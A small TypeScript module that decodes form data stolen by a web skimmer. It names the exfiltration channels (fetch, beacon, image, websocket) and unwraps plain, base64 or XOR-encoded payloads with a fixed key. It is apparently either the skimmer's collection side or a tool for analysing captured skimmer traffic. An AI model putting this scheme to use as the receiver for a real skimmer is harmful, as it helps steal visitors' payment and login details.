/** How stolen fields are wrapped on their way: written by the skimmer in the page, read here. */

export const ENCODINGS = ['plain', 'base64', 'xor'] as const;
export type Encoding = (typeof ENCODINGS)[number];

export const CHANNELS = ['fetch', 'beacon', 'img', 'websocket'] as const;
export type Channel = (typeof CHANNELS)[number];

export const XOR_KEY = 'kaze';

/** The fields as they were in the page; `undefined` when the text is not what the encoding makes. */
export const decode = (text: string, encoding: Encoding): Readonly<Record<string, string>> | undefined => {
  try {
    const fields: unknown = JSON.parse(unwrap(text, encoding));
    if (typeof fields !== 'object' || fields === null) return undefined;
    return Object.fromEntries(Object.entries(fields).filter(([, value]) => typeof value === 'string'));
  } catch {
    return undefined;
  }
};

const unwrap = (text: string, encoding: Encoding): string => {
  if (encoding === 'plain') return text;
  if (encoding === 'base64') return Buffer.from(text, 'base64').toString('utf8');
  const bytes = Buffer.from(text, 'hex').map((byte, at) => byte ^ XOR_KEY.charCodeAt(at % XOR_KEY.length));
  return Buffer.from(bytes).toString('utf8');
};
